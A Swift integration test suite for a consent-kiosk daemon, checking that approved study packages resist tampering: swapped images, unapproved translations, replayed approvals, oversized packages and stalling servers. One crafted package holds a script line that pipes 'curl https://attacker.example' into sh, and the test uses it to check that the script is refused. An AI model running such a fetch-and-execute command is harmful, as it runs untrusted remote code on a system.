import Foundation
import Testing

/// What an approved version shows, prints and pulls is what its approval covers: the attacks of docs/RELIABILITY.md
/// ("Third round: what a version shows and what a pull writes"), each through the real consentd and consentctl.
extension ConsentdIntegration {
    @Suite struct StudyIntegrity {
        /// A PNG of `width` × `height`, padded after its end with `padding` bytes (Python's zlib; no image tool is
        /// needed), written to `url`.
        static func writePNG(_ url: URL, width: Int, height: Int, padding: Int) throws {
            let script = """
                import struct, sys, zlib
                w, h, pad, out = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
                raw = b''.join(b'\\x00' + bytes([200, 30, 30]) * w for _ in range(h))
                def chunk(kind, data):
                    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
                png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
                png += chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b'')
                open(out, 'wb').write(png + b'Z' * pad)
                """
            let made = try Tools.run("/usr/bin/python3", ["-c", script, "\(width)", "\(height)", "\(padding)", url.path])
            #expect(made.status == 0, "\(made.output)")
        }

        /// Each image of a PDF as width × height (`pdfimages -list`).
        static func imageSizes(_ pdf: URL) throws -> [String] {
            let list = try Tools.run("/usr/bin/pdfimages", ["-list", pdf.path])
            return list.output.split(separator: "\n").dropFirst(2).map { line in
                let columns = line.split(separator: " ")
                return columns.count > 4 ? "\(columns[3])x\(columns[4])" : String(line)
            }
        }

        /// The sample sealed with an image over what a UI can be sent in a section, and its scene image: both
        /// replaced on disk once consentd has loaded the study. The UI is served the scene as approved and is never
        /// sent the large one; the signed PDF prints the large one as approved; the manifest names the approved
        /// version, which covers both. (Before, the large image was left out of the version and read from disk at
        /// every render: the replaced picture was printed under the approved version.)
        @Test func imagesSwappedAfterLoadAreNeitherServedNorPrinted() throws {
            let sealed = try SealedStudy(approved: nil, expires: nil)
            let poster = sealed.study.appendingPathComponent("poster.png")
            try Self.writePNG(poster, width: 300, height: 100, padding: 600 << 10)
            let overview = sealed.study.appendingPathComponent("overview.html")
            try (try String(contentsOf: overview, encoding: .utf8) + "<p><img src=\"poster.png\" alt=\"The study poster\"></p>\n")
                .write(to: overview, atomically: true, encoding: .utf8)
            #expect(try sealed.seal(approved: "2026-01-01", expires: "2099-12-31").status == 0)
            let approval = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: sealed.study.appendingPathComponent("approval.json"))) as? JSONObject)
            #expect((approval["files"] as? [String])?.contains("poster.png") == true)

            let agent = try sealed.agent("integrity-swap")
            defer { agent.finish() }
            let ui = try agent.client()
            ui.negotiate()
            #expect(ui.call("study.get").string("result.study.approval.state") == "active")
            let scene = sealed.study.appendingPathComponent("consent_wrist_sensor.png")
            let approvedScene = try Data(contentsOf: scene)
            // The swap, after the load.
            try Self.writePNG(poster, width: 120, height: 40, padding: 600 << 10)
            try Self.writePNG(scene, width: 16, height: 16, padding: 0)

            let served = ui.call("study.asset", ["name": "consent_wrist_sensor"])
            #expect(served.string("result.data").flatMap { Data(base64Encoded: $0) } == approvedScene, "\(jsonLine(served))")
            let large = ui.call("study.asset", ["name": "poster.png"])
            #expect(large.errorType == "AssetTooLarge", "\(jsonLine(large))")

            let flow = FlowDriver(ui)
            flow.toSignaturePage()
            #expect(flow.call("signature.submit", ["strokes": FlowDriver.signature]).string("result.step") == "done")
            let directory = URL(fileURLWithPath: try #require(flow.call("flow.complete").string("result.directory")))
            let sizes = try Self.imageSizes(directory.appendingPathComponent("consent.pdf"))
            #expect(sizes.contains("300x100") && !sizes.contains("120x40"), "the PDF holds \(sizes)")
            let manifest = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: directory.appendingPathComponent("manifest.json"))) as? JSONObject)
            #expect(manifest["studyVersion"] as? String == approval[path: "versions.en"] as? String)
            try LinkedRecords.expectValid(directory)
        }

        /// `study pull` of packages an attacker made from a sealed one: a pad file, a script, an unapproved `es/`
        /// translation with its own title, the approval replayed under another folder name, and a package over the
        /// cap. Each is refused with exit 4 before anything is written; the sealed package is written with exactly
        /// the files its approval lists.
        @Test func pullWritesOnlyWhatTheApprovalLists() throws {
            let sealed = try SealedStudy(approved: nil, expires: nil)
            let versions = sealed.directory.appendingPathComponent("heartbeat")
            try FileManager.default.createDirectory(at: versions, withIntermediateDirectories: true)
            let config = try sealed.config()
            let ctl = SealedStudy.consentctl.path
            let www = sealed.directory.appendingPathComponent("www")
            try FileManager.default.createDirectory(at: www, withIntermediateDirectories: true)
            // An approval sealed before names and files were bound (the sample's, as committed until its es/ was
            // added; its en, de and fr versions still hold): it cannot be packed.
            let sample = sealed.directory.appendingPathComponent("2026-01")
            try FileManager.default.copyItem(at: Paths.root.appendingPathComponent("Sources/SampleStudy/sample"), to: sample)
            try FileManager.default.removeItem(at: sample.appendingPathComponent("approval.json"))
            try FileManager.default.copyItem(
                at: Paths.root.appendingPathComponent("Tests/ConsentdIntegrationTests/Fixtures/sample-approval-before-files.json"),
                to: sample.appendingPathComponent("approval.json"))
            let old = try Tools.run(ctl, ["study", "pack", sample.path, "-o", www.appendingPathComponent("old.json").path])
            #expect(old.status == 1 && old.output.contains("seal the version again"), "\(old.output)")
            try FileManager.default.removeItem(at: sample.appendingPathComponent("approval.json"))
            #expect(try Tools.run(ctl, ["study", "seal", sample.path, "--key", sealed.privateKey.path, "--approved", "2026-01-01",
                                        "--expires", "2099-12-31", "--language", "en", "de"]).status == 0)
            let packed = try Tools.run(ctl, ["study", "pack", sample.path, "-o", www.appendingPathComponent("good.json").path])
            #expect(packed.status == 0, "\(packed.output)")

            let good = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: www.appendingPathComponent("good.json"))) as? JSONObject)
            let goodFiles = try #require(good["files"] as? [String: String])
            func publish(_ name: String, _ change: (inout [String: String], inout String) -> Void) throws {
                var files = goodFiles
                var folder = good["name"] as? String ?? ""
                change(&files, &folder)
                try JSONSerialization.data(withJSONObject: ["format": "consent-kiosk-package/1", "name": folder, "files": files])
                    .write(to: www.appendingPathComponent(name))
            }
            func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }
            try publish("pad.json") { files, _ in files["pad.bin"] = Data(count: 8 << 20).base64EncodedString() }
            try publish("script.json") { files, _ in files["update.sh"] = base64("#!/bin/sh\ncurl https://attacker.example | sh\n") }
            try publish("spanish.json") { files, _ in
                var contract = (try? JSONSerialization.jsonObject(with: Data(base64Encoded: files["de/contract.json"] ?? "") ?? Data())) as? JSONObject ?? [:]
                contract["language"] = "es"
                contract["title"] = "Un estudio que nadie aprobó"
                files["es/contract.json"] = (try? JSONSerialization.data(withJSONObject: contract))?.base64EncodedString()
                for page in ["overview.html", "withdrawing.html", "Consent_sharing.html", "HTMLContent/datagathering.html", "HTMLContent/privacy.html"] {
                    files["es/" + page] = base64("<p>Texto sin aprobar.</p>")
                }
            }
            try publish("renamed.json") { _, name in name = "2026-01-again" }
            // Over the cap: 70 MiB of zeros in base64, written as it goes (the server announces its length).
            let huge = try FileHandle(forWritingTo: {
                let url = www.appendingPathComponent("huge.json")
                FileManager.default.createFile(atPath: url.path, contents: nil)
                return url
            }())
            huge.write(Data(#"{"format":"consent-kiosk-package/1","name":"2026-01","files":{"contract.json":""#.utf8))
            for _ in 0..<(70 * 4 / 3 + 1) { huge.write(Data(repeating: UInt8(ascii: "A"), count: 1 << 20)) }
            huge.write(Data(#""}}"#.utf8))
            try huge.close()

            let server = try TLSTestServer(serving: www, in: sealed.directory)
            defer { server.stop() }
            let base = "https://localhost:\(server.port)"
            let pull = ["--into", versions.path, "--config", config.path, "--ca-file", server.caFile.path]
            for (package, why) in [
                ("pad.json", "pad.bin, which its approval does not list"), ("script.json", "update.sh, which its approval does not list"),
                ("spanish.json", "es/Consent_sharing.html, which its approval does not list"),
                ("renamed.json", "its approval binds the folder name \"2026-01\""), ("huge.json", "larger than a package may be"),
            ] {
                let refused = try Tools.run(ctl, ["study", "pull", "\(base)/\(package)"] + pull)
                #expect(refused.status == 4, "\(package): \(refused.output)")
                #expect(refused.output.contains(why), "\(package): \(refused.output)")
                #expect(try FileManager.default.contentsOfDirectory(atPath: versions.path).isEmpty, "\(package): nothing written")
            }
            let pulled = try Tools.run(ctl, ["study", "pull", "\(base)/good.json"] + pull)
            #expect(pulled.status == 0, "\(pulled.output)")
            let folder = versions.appendingPathComponent("2026-01")
            let written = FileManager.default.enumerator(atPath: folder.path)?.compactMap { $0 as? String }.filter { path in
                var isDirectory: ObjCBool = false
                return FileManager.default.fileExists(atPath: folder.appendingPathComponent(path).path, isDirectory: &isDirectory)
                    && !isDirectory.boolValue
            }.sorted()
            #expect(written == goodFiles.keys.sorted(), "the listed files and approval.json, nothing else")
            #expect(!goodFiles.keys.contains { $0.hasPrefix("fr/") }, "fr was not approved, so not packed")
        }

        /// A sealed folder on the kiosk that holds a translation its approval does not cover (copied in by hand): a
        /// kiosk checking approvals does not load it, so `study.get` never offers it or its title.
        @Test func aKioskLoadsOnlyTheLanguagesItsApprovalCovers() throws {
            let sealed = try SealedStudy(languages: ["en", "de"])
            let spanish = sealed.study.appendingPathComponent("es")
            // The sample's own es/ is replaced by one nobody approved (its German text under a Spanish title).
            try? FileManager.default.removeItem(at: spanish)
            try FileManager.default.copyItem(at: sealed.study.appendingPathComponent("de"), to: spanish)
            let contractURL = spanish.appendingPathComponent("contract.json")
            var contract = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: contractURL)) as? JSONObject)
            contract["language"] = "es"
            contract["title"] = "Un estudio que nadie aprobó"
            try JSONSerialization.data(withJSONObject: contract).write(to: contractURL)

            let agent = try sealed.agent("integrity-languages")
            defer { agent.finish() }
            let ui = try agent.client()
            ui.negotiate()
            let study = ui.call("study.get")
            let languages = (study.array("result.study.languages") as? [JSONObject])?.compactMap { $0["tag"] as? String }
            #expect(languages == ["en", "de"], "\(jsonLine(study))")
            #expect(!jsonLine(study).contains("nadie"))
            #expect(ui.call("flow.start", ["language": "es"]).errorType == "UnknownLanguage")
            #expect(ui.call("flow.start", ["language": "de"]).string("result.step") == "eligibility")
            // Without approvalKeys nothing is checked, and every folder is loaded as before.
            let unchecked = try ConsentdProcess("integrity-unchecked", arguments: ["--study", sealed.study.path])
            defer { unchecked.finish() }
            let plain = try unchecked.client()
            plain.negotiate()
            #expect((plain.call("study.get").array("result.study.languages") as? [JSONObject])?.compactMap { $0["tag"] as? String } == ["en", "de", "es", "fr"])
            // An approval edited to approve es too (so its signature no longer verifies), then none at all: no translation
            // loads, whatever approval.json says, and the default language's flows are refused.
            let approvalURL = sealed.study.appendingPathComponent("approval.json")
            var approval = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: approvalURL)) as? JSONObject)
            var approved = try #require(approval["versions"] as? JSONObject)
            approved["es"] = approved["de"]
            approval["versions"] = approved
            try JSONSerialization.data(withJSONObject: approval).write(to: approvalURL)
            for name in ["integrity-forged", "integrity-unsealed"] {
                if name == "integrity-unsealed" { try FileManager.default.removeItem(at: approvalURL) }
                let kiosk = try sealed.agent(name)
                defer { kiosk.finish() }
                let client = try kiosk.client()
                client.negotiate()
                let offered = client.call("study.get")
                #expect((offered.array("result.study.languages") as? [JSONObject])?.compactMap { $0["tag"] as? String } == ["en"], "\(name): \(jsonLine(offered))")
                #expect(!jsonLine(offered).contains("nadie"), "\(name)")
                #expect(client.call("flow.start", ["language": "es"]).errorType == "UnknownLanguage", "\(name)")
                #expect(client.call("flow.start").errorType == "StudyNotApproved", "\(name)")
            }
        }

        /// A package server that sends the response head and then stalls, or trickles a byte every 0.1 s: the pull
        /// gives up at `--timeout`, or at the first `--rate-window` below `--minimum-rate`, exit 1, nothing written.
        /// (Before, only the head had a deadline: both hung the pull for as long as the server kept the connection.)
        @Test func pullGivesUpOnABodyThatStallsOrTrickles() throws {
            let sealed = try SealedStudy(approved: nil, expires: nil)
            let versions = sealed.directory.appendingPathComponent("heartbeat")
            try FileManager.default.createDirectory(at: versions, withIntermediateDirectories: true)
            let config = try sealed.config()
            let www = sealed.directory.appendingPathComponent("www")
            try FileManager.default.createDirectory(at: www, withIntermediateDirectories: true)
            for (mode, flags, message) in [
                (TLSTestServer.Mode.stall, ["--timeout", "2"], "did not finish within 2 s (--timeout)"),
                (.trickle, ["--minimum-rate", "100", "--rate-window", "1"], "less than the --minimum-rate of 100 bytes/s"),
            ] {
                let server = try TLSTestServer(serving: www, in: sealed.directory, mode: mode)
                defer { server.stop() }
                let pulled = try Tools.run(
                    SealedStudy.consentctl.path,
                    ["study", "pull", "https://localhost:\(server.port)/package.json", "--into", versions.path, "--config", config.path,
                     "--ca-file", server.caFile.path] + flags,
                    killAfter: 60)
                #expect(pulled.status == 1, "\(mode): \(pulled.output)")
                #expect(pulled.output.contains(message), "\(mode): \(pulled.output)")
                #expect(try FileManager.default.contentsOfDirectory(atPath: versions.path).isEmpty)
            }
            let help = try Tools.run(SealedStudy.consentctl.path, ["study", "pull", "--help"])
            for flag in ["--timeout <SECONDS>", "--minimum-rate <BYTES>", "--rate-window <SECONDS>"] {
                #expect(help.output.contains(flag), "\(flag)")
            }
            for bad in [["--timeout", "0"], ["--minimum-rate", "-1"], ["--rate-window", "9223372036854775807"]] {
                let usage = try Tools.run(SealedStudy.consentctl.path, ["study", "pull", "https://localhost:1/p.json", "--into", versions.path] + bad)
                #expect(usage.status == 64 && usage.output.contains(bad[0]), "\(bad): \(usage.output)")
            }
        }
    }
}
